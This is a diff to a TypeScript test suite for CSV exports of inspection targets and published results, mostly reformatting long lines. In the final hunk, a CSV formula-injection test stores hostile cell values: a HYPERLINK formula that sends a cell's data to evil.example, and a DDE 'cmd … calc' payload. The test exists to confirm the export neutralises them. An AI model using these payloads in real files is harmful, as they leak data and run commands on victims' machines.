@@ -31,7 +31,10 @@ describe('list exports', () => {
     expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const rows = csvRows(res.body);
     expect(rows[0]!.slice(0, 4)).toEqual(['统一社会信用代码', '名称', '所属名录库', '维护单位']);
-    const expected = await t.prisma.target.findMany({ where: { unitId: unit.id, riskLevel: 'HIGH', retiredAt: null }, orderBy: [{ name: 'desc' }, { id: 'asc' }] });
+    const expected = await t.prisma.target.findMany({
+      where: { unitId: unit.id, riskLevel: 'HIGH', retiredAt: null },
+      orderBy: [{ name: 'desc' }, { id: 'asc' }],
+    });
     expect(expected.length).toBeGreaterThan(0);
     expect(rows.slice(1).map((r) => r[0])).toEqual(expected.map((e) => e.creditCode));
     const risk = rows[0]!.indexOf('风险等级');
@@ -98,7 +101,16 @@ describe('published results', () => {
     const targets = await t.prisma.target.findMany({ where: { unitId: unit.id }, take: 3, orderBy: { creditCode: 'asc' } });
     const plan = await t.prisma.plan.create({ data: { unitId: unit.id, year: 2031, title: '导出测试计划' } });
     const task = await t.prisma.task.create({
-      data: { code: 'EXP-1', name: '导出测试任务', planId: plan.id, ownerUnitId: unit.id, executingUnitId: unit.id, windowFrom: new Date('2031-03-01'), windowTo: new Date('2031-04-30'), status: 'COMPLETED' },
+      data: {
+        code: 'EXP-1',
+        name: '导出测试任务',
+        planId: plan.id,
+        ownerUnitId: unit.id,
+        executingUnitId: unit.id,
+        windowFrom: new Date('2031-03-01'),
+        windowTo: new Date('2031-04-30'),
+        status: 'COMPLETED',
+      },
     });
     const user = await t.prisma.user.findUniqueOrThrow({ where: { username: 'wenshao' } });
     const statuses = ['PUBLISHED', 'PUBLISHED', 'APPROVED'] as const;
@@ -106,26 +118,71 @@ describe('published results', () => {
       const tt = await t.prisma.taskTarget.create({ data: { taskId: task.id, targetId: target.id, status: 'INSPECTED' } });
       const result = await t.prisma.result.create({
         data: {
-          taskTargetId: tt.id, status: statuses[i]!, outcome: 'NO_PROBLEM', method: 'ON_SITE', inspectedOn: new Date('2031-03-10'),
-          dueOn: new Date('2031-05-29'), dueProvisional: i === 0,
+          taskTargetId: tt.id,
+          status: statuses[i]!,
+          outcome: 'NO_PROBLEM',
+          method: 'ON_SITE',
+          inspectedOn: new Date('2031-03-10'),
+          dueOn: new Date('2031-05-29'),
+          dueProvisional: i === 0,
           ...(statuses[i] === 'PUBLISHED' ? { publishedAt: new Date(`2031-04-0${i + 1}T02:00:00Z`) } : {}),
         },
       });
       if (i === 1) {
         await t.prisma.correction.create({
-          data: { resultId: result.id, reason: '录入错误更正', changes: { outcome: 'CORRECTED_ON_ORDER' }, proposedById: user.id, signedById: user.id, signedAt: new Date('2031-04-10T02:00:00Z') },
+          data: {
+            resultId: result.id,
+            reason: '录入错误更正',
+            changes: { outcome: 'CORRECTED_ON_ORDER' },
+            proposedById: user.id,
+            signedById: user.id,
+            signedAt: new Date('2031-04-10T02:00:00Z'),
+          },
         });
         // A second signed correction that only changes the remarks keeps the first one's outcome (rule 21).
         await t.prisma.correction.create({
-          data: { resultId: result.id, reason: '补充说明', changes: { remarks: '已复核' }, proposedById: user.id, signedById: user.id, signedAt: new Date('2031-04-12T02:00:00Z') },
+          data: {
+            resultId: result.id,
+            reason: '补充说明',
+            changes: { remarks: '已复核' },
+            proposedById: user.id,
+            signedById: user.id,
+            signedAt: new Date('2031-04-12T02:00:00Z'),
+          },
         });
       }
     }
     const rows = csvRows((await f.download(`/export/Result.csv${q({ taskId: task.id })}`, wenshao)).body);
-    expect(rows[0]).toEqual(['任务编号', '抽查任务', '执行单位', '检查对象', '统一社会信用代码', '检查方式', '检查结果', '后续处置', '检查日期', '公示期限', '公示日期', '更正说明']);
+    expect(rows[0]).toEqual([
+      '任务编号',
+      '抽查任务',
+      '执行单位',
+      '检查对象',
+      '统一社会信用代码',
+      '检查方式',
+      '检查结果',
+      '后续处置',
+      '检查日期',
+      '公示期限',
+      '公示日期',
+      '更正说明',
+    ]);
     expect(rows.length).toBe(3);
     const byCode = new Map(rows.slice(1).map((r) => [r[4], r]));
-    expect(byCode.get(targets[0]!.creditCode)).toEqual(['EXP-1', '导出测试任务', unit.name, targets[0]!.name, targets[0]!.creditCode, '实地核查', '未发现问题', '无', '2031-03-10', '2031-05-29（暂定）', '2031-04-01', '']);
+    expect(byCode.get(targets[0]!.creditCode)).toEqual([
+      'EXP-1',
+      '导出测试任务',
+      unit.name,
+      targets[0]!.name,
+      targets[0]!.creditCode,
+      '实地核查',
+      '未发现问题',
+      '无',
+      '2031-03-10',
+      '2031-05-29（暂定）',
+      '2031-04-01',
+      '',
+    ]);
     expect(byCode.get(targets[1]!.creditCode)![6]).toBe('发现问题经责令已改正');
     expect(byCode.get(targets[1]!.creditCode)![9]).toBe('2031-05-29');
     expect(byCode.get(targets[1]!.creditCode)![11]).toBe('录入错误更正；补充说明');
@@ -164,7 +221,7 @@ describe('formula injection (CSV injection)', () => {
   it('neutralises a target’s hostile name in the export, and the export imports back unchanged', async () => {
     const unit = await t.prisma.unit.findUniqueOrThrow({ where: { code: 'GTS01' } });
     const target = await t.prisma.target.findFirstOrThrow({ where: { unitId: unit.id, retiredAt: null }, orderBy: { creditCode: 'asc' } });
-    const hostile = { name: '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")', address: '@SUM(1+1)*cmd|\' /C calc\'!A0', legalRepresentative: '-2+3' };
+    const hostile = { name: '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")', address: "@SUM(1+1)*cmd|' /C calc'!A0", legalRepresentative: '-2+3' };
     await t.prisma.target.update({ where: { id: target.id }, data: hostile });
     const res = await f.download(`/export/Target.csv${q({ q: target.creditCode })}`, wenshao);
     const rows = csvRows(res.body);
